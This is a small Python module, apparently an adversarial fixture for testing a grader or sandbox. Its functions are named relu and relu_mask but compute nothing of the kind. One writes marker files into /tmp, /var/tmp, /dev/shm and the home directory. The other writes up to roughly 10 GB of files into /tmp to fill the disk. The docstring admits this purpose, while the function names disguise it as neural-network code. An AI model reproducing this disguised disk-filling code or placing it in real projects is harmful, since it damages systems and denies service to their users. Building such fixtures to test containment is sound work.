"""Leaves files in every world-writable place and tries to fill the disk."""

import os

MARKER = "backprop-check-litter-4242"


def relu(z):
    written = []
    for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
        try:
            with open(os.path.join(folder, MARKER), "w") as stream:
                stream.write("left behind")
            written.append(1.0)
        except OSError:
            written.append(0.0)
    return written


def relu_mask(z):
    block = b"\0" * (1 << 20)
    written = 0
    try:
        for i in range(10_000):
            with open(f"/tmp/{MARKER}-{i}", "wb") as stream:
                stream.write(block)
            written += 1
    except OSError:
        pass
    return float(written)
